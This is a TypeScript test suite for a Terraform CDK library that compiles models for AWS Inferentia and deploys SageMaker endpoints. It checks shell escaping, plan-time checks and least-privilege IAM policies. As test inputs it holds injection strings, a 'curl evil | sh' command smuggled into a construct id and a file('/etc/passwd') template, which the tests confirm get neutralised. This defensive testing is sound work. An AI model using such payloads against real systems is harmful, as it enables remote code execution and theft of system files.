// What keeps hostile values out of the shell, IAM and the artifacts, in the synthesized Terraform:
// references escaped where they reach the user data, checked at plan time where they reach IAM, literal
// text escaped for Terraform's templates, least privilege around the endpoint's code, the token's key,
// data capture and the SageMaker trust policy.
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import { App, TerraformLocal, TerraformStack, TerraformVariable, Testing } from "cdktf";
import { AwsProvider } from "@cdktf/provider-aws/lib/provider";
import { NullProvider } from "@cdktf/provider-null/lib/provider";
import { Construct } from "constructs";
import { ValidationError } from "../lib/errors";
import { Model } from "../lib/model";
import { TransformersNeuronxSageMakerInferenceModelData as ModelData } from "../lib/model-data";
import { NeuronxCompile, NeuronxCompileProps } from "../lib/neuronx-compile";
import {
  TransformersNeuronxSageMakerRealtimeInferenceEndpoint as Endpoint,
  TransformersNeuronxSageMakerRealtimeInferenceEndpointProps,
} from "../lib/realtime-endpoint";
import { RULES } from "../lib/patterns";
import { renderCompileUserData } from "../lib/user-data";
import { synth, testStack } from "./helpers/synth";
import { thrown } from "./helpers/thrown";

const TINY = () => Model.fromHuggingFace("TinyLlama/TinyLlama-1.1B-Chat-v1.0");
const SECRET = "arn:aws:secretsmanager:us-east-1:123456789012:secret:hf-token-AbCdEf";
const KEY = "arn:aws:kms:us-east-1:123456789012:key/1234abcd-12ab-34cd-56ef-1234567890ab";

function compile(props: (scope: Construct) => Partial<NeuronxCompileProps> = () => ({}), id = "Compile") {
  return synth((stack) => new NeuronxCompile(stack, id, { model: TINY(), ...props(stack) }));
}
function endpoint(props: (scope: Construct) => Partial<TransformersNeuronxSageMakerRealtimeInferenceEndpointProps> = () => ({})) {
  return synth((stack) => {
    const c = new NeuronxCompile(stack, "Compile", { model: TINY() });
    new Endpoint(stack, "Inference", { modelData: ModelData.fromNeuronxCompile(c), ...props(stack) });
  });
}
function testStackIn(app: App): TerraformStack {
  const stack = new TerraformStack(app, "test");
  new AwsProvider(stack, "aws", { region: "us-east-1" });
  new NullProvider(stack, "null");
  return stack;
}
const statements = (json: any, name: string): any[] => json.data.aws_iam_policy_document[name].statement;
const bySid = (json: any, name: string) => Object.fromEntries(statements(json, name).map((s) => [s.sid, s]));

describe("user data", () => {
  test("every Terraform reference is escaped by Terraform's replace() inside single quotes, as the HCL module does", () => {
    const { json } = compile((s) => ({
      bucket: new TerraformVariable(s, "bucket", { type: "string" }).stringValue,
      huggingFaceTokenSecretArn: new TerraformVariable(s, "secret_arn", { type: "string" }).stringValue,
    }));
    const exports = (json.locals?.compile_user_data as string).split("\n").filter((l) => l.startsWith("export "));
    const references = exports.filter((l) => l.includes("${") && !l.includes("$${"));
    expect(references.length).toBeGreaterThanOrEqual(6);
    for (const line of references) expect(line).toMatch(/^export [A-Z_]+='\$\{replace\((.+), "'", "'\\\\''"\)\}'$/);
    expect(exports).toContain(`export NEURONX_BUCKET='\${replace(var.bucket, "'", "'\\\\''")}'`);
    expect(exports).toContain(`export NEURONX_HF_TOKEN_SECRET_ARN='\${replace(var.secret_arn, "'", "'\\\\''")}'`);
  });

  test("text mixing literals and references is escaped whole, as one Terraform string", () => {
    const { json } = synth((stack) => {
      const region = new TerraformVariable(stack, "region", { type: "string" }).stringValue;
      const script = renderCompileUserData({
        constructPath: "x",
        deadlineMinutes: 60,
        environment: { NEURONX_IMAGE: `1.dkr.ecr.${region}.amazonaws.com/n:1` },
      });
      new TerraformLocal(stack, "ud", script.script);
    });
    expect(json.locals?.ud).toContain(
      `export NEURONX_IMAGE='\${replace(tostring("1.dkr.ecr.\${var.region}.amazonaws.com/n:1"), "'", "'\\\\''")}'`,
    );
  });

  test("a literal's quotes and Terraform template sequences are escaped", () => {
    const script = renderCompileUserData({ constructPath: "x", deadlineMinutes: 60, environment: { A: `it's \${x} %{y}` } }).script;
    expect(script).toContain(`export A='it'\\''s $\${x} %%{y}'`);
  });

  test("a construct id with a newline or template syntax stays a one-line comment, escaped", () => {
    const { json } = compile(() => ({}), 'Compile\ncurl evil | sh ${file("x")}');
    const lines = (json.locals as any)[Object.keys(json.locals as object).find((k) => k.endsWith("user_data")) as string].split("\n");
    expect(lines[1]).toBe('# User data of test/Compile?curl evil | sh $${file("x")} (cdktf-neuronx-patterns NeuronxCompile):');
    expect(lines[2].startsWith("# ")).toBe(true);
  });

  test("pickled weights are allowed only when the model says so", () => {
    expect(compile().json.locals?.compile_user_data).not.toContain("NEURONX_ALLOW_PICKLE_WEIGHTS");
    const allowed = synth(
      (s) =>
        new NeuronxCompile(s, "Compile", {
          model: Model.fromHuggingFace("TinyLlama/TinyLlama-1.1B-Chat-v1.0", { allowPickleWeights: true }),
        }),
    );
    expect(allowed.json.locals?.compile_user_data).toContain("export NEURONX_ALLOW_PICKLE_WEIGHTS='true'");
  });
});

describe("plan-time checks of references", () => {
  test("a reference that reaches the user data and IAM is checked by a precondition on each, naming the prop and never the value", () => {
    const { json } = compile((s) => ({
      huggingFaceTokenSecretArn: new TerraformVariable(s, "secret_arn", { type: "string" }).stringValue,
    }));
    const lt = json.resource.aws_launch_template.compile.lifecycle.precondition;
    const policy = json.data.aws_iam_policy_document.compile.lifecycle.precondition;
    for (const checks of [lt, policy]) {
      const check = checks.find((c: any) =>
        c.error_message.startsWith("The value of huggingFaceTokenSecretArn must be a Secrets Manager secret ARN"),
      );
      // The condition reads a boolean local: Terraform prints the value of each reference of a failed condition.
      expect(check.condition).toBe("${local.compile_hugging_face_token_secret_arn_ok}");
      expect(check.error_message).toMatch(/is not shown here, in case it is a secret\.$/);
    }
    expect(json.locals?.compile_hugging_face_token_secret_arn_ok).toBe(
      "${can(regex(local.neuronx_rules.secretArn.pattern, var.secret_arn)) && length(var.secret_arn) >= local.neuronx_rules.secretArn.min_length" +
        " && length(var.secret_arn) <= local.neuronx_rules.secretArn.max_length && alltrue([for f in local.neuronx_rules.secretArn.forbidden : !can(regex(f, var.secret_arn))])}",
    );
    expect(json.locals?.neuronx_rules.secretArn).toEqual({
      pattern: RULES.secretArn.pattern.source,
      min_length: 1,
      max_length: 2048,
      forbidden: [],
    });
  });

  test("a bucket and a subnet from references are checked before the waiter runs", () => {
    const { json } = compile((s) => ({
      bucket: new TerraformVariable(s, "bucket", { type: "string" }).stringValue,
      subnetId: new TerraformVariable(s, "subnet", { type: "string" }).stringValue,
    }));
    const messages = json.resource.null_resource.compile_waiter.lifecycle.precondition.map((c: any) => c.error_message);
    expect(messages.filter((m: string) => /^The value of (bucket|subnetId) must be/.test(m))).toHaveLength(2);
  });

  test("the endpoint checks its references on the model and on its policy", () => {
    const { json } = endpoint((s) => ({
      endpointName: new TerraformVariable(s, "name", { type: "string" }).stringValue,
      dataCapture: { destinationS3Uri: new TerraformVariable(s, "capture", { type: "string" }).stringValue },
    }));
    for (const block of [json.resource.aws_sagemaker_model.inference, json.data.aws_iam_policy_document.inference]) {
      expect(block.lifecycle.precondition.map((c: any) => c.error_message.split(" must")[0])).toEqual([
        "The value of endpointName",
        "The value of dataCapture.destinationS3Uri",
      ]);
    }
  });
});

describe("the compile role", () => {
  test("is denied the endpoint's code location under its own prefix", () => {
    const { json } = compile();
    const deny = bySid(json, "compile").DenyEndpointCode;
    expect(deny).toMatchObject({ effect: "Deny", actions: ["s3:PutObject", "s3:DeleteObject", "s3:AbortMultipartUpload"] });
    expect(deny.resources[0]).toMatch(
      /\/TinyLlama\/TinyLlama-1\.1B-Chat-v1\.0\/main\/neuronx-2\.25\.0\/tp2-np4096-bs1-bf16-opt2\/code\/\*$/,
    );
  });

  test("may decrypt the token's customer managed key only through Secrets Manager", () => {
    const { json } = compile(() => ({ huggingFaceTokenSecretArn: SECRET, huggingFaceTokenKmsKeyArn: KEY }));
    expect(bySid(json, "compile").DecryptHuggingFaceToken).toEqual({
      sid: "DecryptHuggingFaceToken",
      actions: ["kms:Decrypt"],
      resources: [KEY],
      condition: [
        {
          test: "StringEquals",
          variable: "kms:ViaService",
          values: ["secretsmanager.${data.aws_region.current.region}.${data.aws_partition.current.dns_suffix}"],
        },
      ],
    });
    expect(bySid(compile(() => ({ huggingFaceTokenSecretArn: SECRET })).json, "compile").DecryptHuggingFaceToken).toBeUndefined();
  });

  test("S3 objects carry only the construct's own tags (S3 takes 10 an object), other resources every tag", () => {
    const tags = Object.fromEntries(Array.from({ length: 20 }, (_, i) => [`T${i}`, "x"]));
    const { json } = compile(() => ({ tags }));
    expect(Object.keys(json.resource.aws_s3_object.compile_script.tags).sort()).toEqual(["ManagedBy", "neuronx:model", "neuronx:revision"]);
    expect(Object.keys(json.resource.aws_iam_role.compile.tags)).toHaveLength(23);
  });

  test("descriptions stay within EC2's 255 characters whatever the ids hold", () => {
    const long = Model.fromHuggingFace(`${"o".repeat(40)}/${"n".repeat(50)}-7b`, { revision: "r".repeat(120) });
    const { json } = synth((s) => new NeuronxCompile(s, "Compile", { model: long }));
    expect(json.resource.aws_launch_template.compile.description.length).toBeLessThanOrEqual(255);
    expect(json.resource.aws_launch_template.compile.description.endsWith("...")).toBe(true);
  });
});

describe("the endpoint", () => {
  test("SageMaker may assume its role only for this account's resources (confused deputy)", () => {
    const { json } = endpoint();
    expect(statements(json, "inference_assume_role")[0].condition).toEqual([
      { test: "StringEquals", variable: "aws:SourceAccount", values: ["${data.aws_caller_identity.current.account_id}"] },
      {
        test: "ArnLike",
        variable: "aws:SourceArn",
        values: [
          "arn:${data.aws_partition.current.partition}:sagemaker:${data.aws_region.current.region}:${data.aws_caller_identity.current.account_id}:*",
        ],
      },
    ]);
  });

  test.each([
    ["s3://captures", "captures/test-inference/*"],
    ["s3://captures/", "captures/test-inference/*"],
    ["s3://captures/chat/", "captures/chat/test-inference/*"],
  ])("data capture to %s lets the role write under the endpoint's folder only", (destinationS3Uri, resource) => {
    const { json } = endpoint(() => ({ dataCapture: { destinationS3Uri } }));
    expect(bySid(json, "inference").WriteDataCapture.resources).toEqual([`arn:\${data.aws_partition.current.partition}:s3:::${resource}`]);
  });

  test("literal environment values reach SageMaker as typed: Terraform's template sequences are escaped", () => {
    const { json } = endpoint(() => ({ environment: { GREETING: 'hi ${file("/etc/passwd")} %{ if true }x%{ endif }' } }));
    expect(json.resource.aws_sagemaker_model.inference.primary_container.environment.GREETING).toBe(
      'hi $${file("/etc/passwd")} %%{ if true }x%%{ endif }',
    );
  });

  test("the code objects carry only the construct's own tags", () => {
    const { json } = endpoint(() => ({ tags: { Team: "ml" } }));
    expect(json.resource.aws_s3_object.inference_code.tags).toEqual({
      "neuronx:model": "TinyLlama/TinyLlama-1.1B-Chat-v1.0",
      ManagedBy: "cdktf-neuronx-patterns",
    });
  });

  test("a custom code directory ships without its dotfiles, caches, tests and what exclude names", () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "code-"));
    const files = {
      "inference.py": "x",
      ".env": "HF_TOKEN=hf_x",
      ".git/config": "",
      "notes.ipynb": "",
      "util.py": "y",
      "__pycache__/u.pyc": "",
    };
    for (const [rel, content] of Object.entries(files)) {
      fs.mkdirSync(path.dirname(path.join(dir, rel)), { recursive: true });
      fs.writeFileSync(path.join(dir, rel), content);
    }
    const app = Testing.app();
    const stack = testStackIn(app);
    const c = new NeuronxCompile(stack, "Compile", { model: TINY() });
    new Endpoint(stack, "Inference", { modelData: ModelData.fromNeuronxCompile(c, { path: dir, exclude: ["*.ipynb"] }) });
    app.synth();
    const assets = path.join(
      app.outdir,
      "stacks",
      "test",
      JSON.parse(
        fs.readFileSync(path.join(app.outdir, "stacks", "test", "cdk.tf.json"), "utf8"),
      ).resource.aws_s3_object.inference_code.source.split("/${each.value}")[0],
    );
    expect(fs.readdirSync(assets, { recursive: true }).map(String).sort()).toEqual(["inference.py", "util.py"]);
  });
});

describe("every problem at once", () => {
  test("tpDegree 3, nPositions 50, instanceType inf2.huge and deadlineMinutes 5 give four problems", () => {
    const error = thrown(() =>
      compile(() => ({ compileOptions: { tpDegree: 3, nPositions: 50 }, instanceType: "inf2.huge", deadlineMinutes: 5 })),
    ) as ValidationError;
    expect(error).toBeInstanceOf(ValidationError);
    expect(error.problems.map((p) => p.split(" ")[0])).toEqual([
      "compileOptions.tpDegree",
      "compileOptions.nPositions",
      "deadlineMinutes",
      "instanceType",
    ]);
  });

  test("a JavaScript caller's wrong types are ValidationErrors, never TypeErrors", () => {
    const values = [null, -0, NaN, "x", [], {}, () => 1, Symbol("s"), true];
    const build = (construct: "compile" | "endpoint", prop: string, value: unknown) => () => {
      const stack = testStack();
      if (construct === "compile") {
        new NeuronxCompile(stack, "Compile", { model: TINY(), [prop]: value as never });
        return;
      }
      const c = new NeuronxCompile(stack, "Compile", { model: TINY() });
      new Endpoint(stack, "Inference", { modelData: ModelData.fromNeuronxCompile(c), [prop]: value as never });
    };
    const props = {
      compile: ["model", "compileOptions", "bucket", "tags", "deadlineMinutes", "spot", "containerImage", "huggingFaceTokenSecretArn"],
      endpoint: ["environment", "tags", "dataCapture", "vpcConfig", "autoScaling", "instanceType", "endpointName", "instanceCount"],
    } as const;
    for (const value of values) {
      for (const [construct, names] of Object.entries(props) as ["compile" | "endpoint", readonly string[]][]) {
        for (const prop of names) {
          const error = thrown(build(construct, prop, value));
          if (error !== undefined) expect([prop, String(value), error]).toEqual([prop, String(value), expect.any(ValidationError)]);
        }
      }
    }
  });
});
